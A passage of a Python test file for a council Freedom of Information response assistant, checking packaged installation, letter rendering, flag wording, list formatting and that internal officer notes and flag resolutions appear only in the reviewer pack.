    for module in (REPO / "assistant").rglob("*.py"):
        assert module.relative_to(REPO).as_posix() in names, module
    site = tmp_path / "site"
    subprocess.run([sys.executable, "-m", "pip", "install", "--no-deps", "-q", "--target", str(site), str(wheel)],
                   check=True, capture_output=True, timeout=600)
    script = textwrap.dedent('''
        import io, sys
        from datetime import date
        import docx
        import assistant
        from assistant.letter import DEFAULT_TEMPLATES, LetterContext, letter_docx, render_letter
        from assistant.models import Draft, Question, Status
        from assistant.settings import Settings
        assert assistant.__file__.startswith(sys.argv[1]), assistant.__file__
        assert str(DEFAULT_TEMPLATES).startswith(sys.argv[1]), DEFAULT_TEMPLATES
        assert str(Settings().prompts_dir).startswith(sys.argv[1]), Settings().prompts_dir
        ctx = LetterContext.from_settings(Settings(), reference="W1", received=date(2025, 5, 14), reply_date=date(2025, 6, 9))
        drafts = [Draft(Question("1", "Q?"), "Withheld under section 43(2) because release would prejudice the providers.",
                        Status.EXEMPT, exemptions=["s43"])]
        text = render_letter(ctx, drafts, "requester")
        assert "Section 43 – Commercial interests" in text and "Public interest test" in text
        words = "\\n".join(p.text for p in docx.Document(io.BytesIO(letter_docx(ctx, drafts, "reviewer"))).paragraphs)
        assert "Status: Exempt (refused)" in words
        print("letter from", DEFAULT_TEMPLATES)
    ''')
    env = {**os.environ, "PYTHONPATH": str(site)}
    result = subprocess.run([sys.executable, "-c", script, str(site)], cwd=tmp_path, env=env, capture_output=True,
                            text=True, timeout=300)
    assert result.returncode == 0, result.stderr[-3000:]
    assert f"letter from {site}/assistant/prompt_files/letter" in result.stdout


def test_every_flag_the_pipeline_raises_has_plain_words() -> None:
    from assistant.wording import FLAG_WORDS

    source = "\n".join(p.read_text(encoding="utf-8") for p in (REPO / "assistant").rglob("*.py"))
    kinds = set(re.findall(r"Flag\(\s*\"([a-z_]+)\"", source))
    assert len(kinds) >= 8
    assert kinds <= set(FLAG_WORDS), f"flag kinds without plain words in assistant/wording.py: {kinds - set(FLAG_WORDS)}"


def test_internal_notes_inside_an_answer_never_reach_the_requester(ctx: LetterContext) -> None:
    """The drafter's per-part notes (nearest evidence, figures to update) stay in the reviewer pack."""
    audits = Draft(
        Question("7", "Does the council audit exploitation cases?", [("b", "How many?"), ("c", "Findings?")]),
        "(a)\nThe council takes part in the LSCP audits programme. [1]\n(b)\nNote for the officer on (b): no past "
        "answer gives what is asked. The nearest evidence is question 6 of 2023.\nIt differs: gives no count.\n"
        "(c)\nThe audits led to a review of MACE. [1]\n(d) Note for the officer: figures to update.",
        Status.NEEDS_REVIEW,
    )
    text = render_letter(ctx, [provided("1"), audits], "requester")
    section = text.split("### Question 7")[1].split("## Internal review")[0]
    assert "Note for the officer" not in text and "nearest evidence" not in text and "It differs" not in text
    assert "figures to update" not in text
    assert "(a) The council takes part in the LSCP audits programme." in section
    assert f"(b) {PLACEHOLDER_MD}" in section and f"(d) {PLACEHOLDER_MD}" in section
    assert "(c) The audits led to a review of MACE." in section
    assert "For the officer: question 7 is not finished" in text
    words = docx_text(letter_docx(ctx, [provided("1"), audits], "requester"))
    assert "Note for the officer" not in words and f"(b) {PLACEHOLDER}" in words
    pack = render_letter(ctx, [provided("1"), audits], "reviewer")
    assert "Note for the officer on (b): no past answer gives what is asked." in pack  # the reviewer sees it


def test_a_list_written_without_bullets_becomes_a_list(ctx: LetterContext) -> None:
    draft = Draft(
        Question("6", "Who attends?"),
        "All partners have adopted the framework. [1]\nThe organisations taking part are: [1]\nLincolnshire Police [1]\n"
        "Children's Services, through the coordinators [1]\nthe district council for the area concerned [1]\n"
        "Depending on the case, others are also invited. [1]\nMACE Level 1 meets weekly. [1]",
        Status.PROVIDED,
    )
    paragraphs = [(p.text, p.style.name) for p in docx.Document(io.BytesIO(letter_docx(ctx, [draft], "requester"))).paragraphs]
    start = paragraphs.index(("The organisations taking part are:", "Normal"))
    assert paragraphs[start + 1 : start + 6] == [
        ("Lincolnshire Police", "List Bullet"),
        ("Children's Services, through the coordinators", "List Bullet"),
        ("the district council for the area concerned", "List Bullet"),
        ("Depending on the case, others are also invited.", "Normal"),
        ("MACE Level 1 meets weekly.", "Normal"),
    ]


def test_reviewer_pack_shows_resolved_flags_as_resolved_with_who_when_why(ctx: LetterContext) -> None:
    """A flag the officer resolved stays in the pack (the reviewer sees it) but says who resolved it, when and why."""
    from assistant.cases import Resolution

    draft = personal_data()
    draft.flags.append(Flag("figure_not_in_source", "The figure 17 is not in any cited passage."))
    resolutions = [
        Resolution("2", "figure_not_in_source", "The figure 17 is not in any cited passage.",
                   "figures confirmed by Children's Services", "amira", "2025-06-02T10:15:00+00:00"),
        Resolution("2", "small_numbers", "Another wording of the flag.", "not this flag", "amira", "2025-06-02T10:16:00"),
    ]
    pack = render_letter(ctx, [draft], "reviewer", resolutions=resolutions)
    lines = [line for line in pack.splitlines() if line.startswith("- ")]
    resolved = [line for line in lines if "17" in line]
    assert len(resolved) == 1 and "resolved by amira on 2 June 2025: figures confirmed by Children's Services" in resolved[0]
    small = [line for line in lines if "under 5" in line]
    assert len(small) == 1 and "resolved" not in small[0]
    text = docx_text(letter_docx(ctx, [draft], "reviewer", resolutions=resolutions))
    assert "resolved by amira on 2 June 2025: figures confirmed by Children" in text
    assert "resolved by" not in render_letter(ctx, [draft], "requester", resolutions=resolutions)
